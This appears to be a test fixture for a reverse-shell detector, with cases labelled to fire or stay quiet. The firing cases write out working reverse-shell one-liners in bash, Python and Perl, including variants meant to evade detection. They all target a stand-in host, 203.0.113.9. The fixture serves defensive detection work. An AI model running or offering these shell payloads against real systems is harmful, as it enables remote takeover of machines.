#: fires
python3 /usr/local/bin/listen.py 203.0.113.9:4444 & listener=$!
sleep 0.3
timeout 2 bash -c 'exec 5<>/dev/tcp/203.0.113.9/4444; exec 0<&5 1>&5'
kill $listener
#: fires detect/terminal-made-by-code -- by Python
python3 /usr/local/bin/listen.py 203.0.113.9:4444 & listener=$!
sleep 0.3
timeout 2 python3 -c 'import socket,os,subprocess; s=socket.create_connection(("203.0.113.9",4444)); os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); subprocess.call(["/bin/sh"])'
kill $listener
#: fires -- by closing first
python3 /usr/local/bin/listen.py 203.0.113.9:4444 & listener=$!
sleep 0.3
timeout 2 python3 /usr/local/bin/back.py 203.0.113.9 4444
kill $listener
#: fires detect/terminal-made-by-code -- by Perl and the other protocol
timeout 2 perl -MPOSIX -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.9:53",Proto=>"udp");POSIX::dup2(fileno($s),0)'
#: fires -- by the call that duplicates without being called so
python3 /usr/local/bin/listen.py 203.0.113.9:4444 & listener=$!
sleep 0.3
timeout 2 python3 -c 'import fcntl,os,socket; s=socket.create_connection(("203.0.113.9",4444)); os.close(0); fcntl.fcntl(s,fcntl.F_DUPFD,0)'
kill $listener
#: quiet
python3 /usr/local/bin/listen.py 203.0.113.9:4444 & listener=$!
sleep 0.3
curl -s --max-time 1 http://203.0.113.9:4444/ > /dev/null || true
bash -c 'exec 5<>/dev/tcp/203.0.113.9/4444; echo hello >&5; exec 5>&-'  2>/dev/null || true
kill $listener
sh -c 'echo x 2>&1 | cat' > /dev/null
